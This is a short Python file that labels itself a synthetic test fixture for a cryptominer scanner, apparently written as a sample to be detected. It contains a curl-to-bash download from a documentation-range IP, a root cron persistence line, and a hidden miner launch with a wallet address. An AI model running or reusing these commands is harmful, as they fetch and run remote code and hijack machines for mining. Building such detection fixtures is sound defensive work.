#!/usr/bin/env python3
# SYNTHETIC TEST FIXTURE for minerscan: harmless text, never executed. Addresses are generated, hosts are documentation ranges or public pool names.
import os, subprocess
os.system("curl -s http://203.0.113.44/x.sh | bash")
os.system("echo '@reboot /tmp/.p/python3 -o stratum+tcp://203.0.113.44:5555 -u x' >> /var/spool/cron/root")
subprocess.Popen(["/tmp/.p/python3", "-o", "stratum+tcp://203.0.113.44:5555", "-u", "41pmnqWeNug1ikEBmYhajkDoyXHMNd5nSRuAdPwsKWQSdphFyVWJQ3t76QN1Jt34YJKBdf6thxZazXGpmDVCezCzVXJinrj"])
